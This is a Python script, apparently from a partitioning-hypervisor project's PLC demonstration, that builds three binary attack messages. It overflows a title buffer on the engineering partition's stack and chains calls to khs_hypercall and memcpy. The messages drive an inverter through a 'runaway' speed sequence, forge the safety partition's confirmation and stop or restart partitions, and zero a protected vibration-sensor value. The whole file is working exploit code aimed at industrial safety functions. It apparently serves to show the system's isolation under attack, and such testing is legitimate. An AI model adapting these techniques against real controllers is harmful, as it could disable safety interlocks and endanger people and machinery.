"""Writes the attacker's messages: attack-sequence.bin, attack-forgery.bin, attack-memory.bin.

    python images/plc/make_attack.py

Each message has a TITLE that is longer than the buffer of the engineering partition. What follows
the buffer on the stack is the list of steps that it is about to carry out: functions with three
arguments each. So the attacker has the partition call functions of its own code, chosen by him,
with arguments chosen by him: code reuse, because memory that can be written is never executable.
The functions are two that the SDK puts at fixed addresses of every program, on every architecture:

    khs_hypercall(block)     any hypercall with any arguments
    memcpy(to, from, size)   reads and writes any memory

The message itself lies in the region `download`, so its address is known too, and one message
serves all three architectures.
"""

from __future__ import annotations

import io
import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent

# partitions/engineering: struct programme, struct step, struct download
TITLE_BYTES, STEPS = 64, 32
MESSAGE = 0x5000_0008  # [region.download], behind sequence and length
SPARE = 0x5000_0C00  # the rest of that region
PROTECTION = 0x5000_2000  # [region.protection], which the engineering partition has no right to

# Hypercall numbers, and the partition's ports in the order of system.toml; the safety partition.
RESTART, STOP, CALL, PORT_SEND, INPUT_RECEIVE = 6, 10, 13, 18, 21
SETPOINT, CONFIRM = 0, 2
SAFETY = 1
PATIENCE_US = 100_000

#: Tenths of a hertz, and milliseconds until the next: what the inverter may run, one by one.
SEQUENCE = (
    *((14100, 1500), (20, 4000), (10640, 3500)),
    *((14100, 1500), (20, 4000), (10640, 3500)),
)
RAMP = 400  # Hz/s


class Message:
    """A message under construction; `steps` are (function, three arguments)."""

    def __init__(self, functions: dict[str, int], steps: int) -> None:
        self.functions = functions
        overflow = TITLE_BYTES + 8 + 32 * steps
        self.head = b"TITLE %d:" % overflow
        self.tail = b"\nEND\n"
        self.data_at = -(-(MESSAGE + len(self.head) + overflow + len(self.tail)) // 8) * 8
        self.count = steps
        self.steps: list[bytes] = []
        self.data = b""

    def place(self, data: bytes) -> int:
        """Puts `data` behind the title and returns the address that it will have."""
        address = self.data_at + len(self.data)
        self.data += data + bytes(-len(data) % 8)
        return address

    def call(self, function: int, *arguments: int) -> None:
        padded = [*arguments, 0, 0, 0][:3]
        self.steps.append(struct.pack("<4Q", function, *padded))

    def hypercall(self, number: int, *arguments: int) -> None:
        padded = [*arguments, 0, 0, 0, 0, 0, 0][:6]
        block = self.place(struct.pack("<7QII", number, *padded, 0, 0))
        self.call(self.functions["khs_hypercall"], block)

    def set_speed(self, speed: int) -> None:
        request = self.place(struct.pack("<IHHII", 0, 0, 0, speed, RAMP))
        self.hypercall(CALL, SETPOINT, request, 16, SPARE, 32, PATIENCE_US)

    def wait(self, ms: int) -> None:
        """For a message that does not come."""
        self.hypercall(INPUT_RECEIVE, 0, SPARE, 64, ms * 1000)

    def encode(self) -> bytes:
        assert len(self.steps) == self.count < STEPS
        title = (b"runaway\0".ljust(TITLE_BYTES, b"A")) + struct.pack("<II", self.count, 0)
        whole = self.head + title + b"".join(self.steps) + self.tail
        return whole.ljust(self.data_at - MESSAGE, b"\0") + self.data


def sequence(functions: dict[str, int]) -> bytes:
    """Setpoints that are each within all ranges: 1410 Hz, 2 Hz, 1064 Hz, and again."""
    message = Message(functions, 2 * len(SEQUENCE))
    for speed, ms in SEQUENCE:
        message.set_speed(speed)
        message.wait(ms)
    return message.encode()


def forgery(functions: dict[str, int]) -> bytes:
    """Says what only safety may say, then wants safety gone, and everybody."""
    message = Message(functions, 3)
    settled = message.place(struct.pack("<IHHII", 0, 0, 0, 1, 14000))
    message.hypercall(PORT_SEND, CONFIRM, settled, 16)
    message.hypercall(RESTART, SAFETY, 0)
    message.hypercall(STOP)
    return message.encode()


def memory(functions: dict[str, int]) -> bytes:
    """Writes what the safety channel's vibration sensor would: nothing."""
    message = Message(functions, 1)
    still = message.place(struct.pack("<I4x", 0))
    message.call(functions["memcpy"], PROTECTION + 8, still, 4)
    return message.encode()


MESSAGES = {"sequence": sequence, "forgery": forgery, "memory": memory}


def functions(elf: Path | bytes) -> dict[str, int]:
    """Addresses of the two functions in the engineering partition's ELF file."""
    from elftools.elf.elffile import ELFFile

    data = elf if isinstance(elf, bytes) else elf.read_bytes()
    symbols = ELFFile(io.BytesIO(data)).get_section_by_name(".symtab")
    return {
        name: symbols.get_symbol_by_name(name)[0]["st_value"]
        for name in ("khs_hypercall", "memcpy")
    }


def main() -> None:
    from khs import config, image

    found = [
        functions(image.build(config.load(HERE, board=board)).elfs["engineering"])
        for board in ("sabrelite", "q35", "pc")
    ]
    if any(other != found[0] for other in found):
        raise SystemExit(f"the functions have different addresses: {found}")
    for name, make in MESSAGES.items():
        (HERE / f"attack-{name}.bin").write_bytes(make(found[0]))


if __name__ == "__main__":
    main()
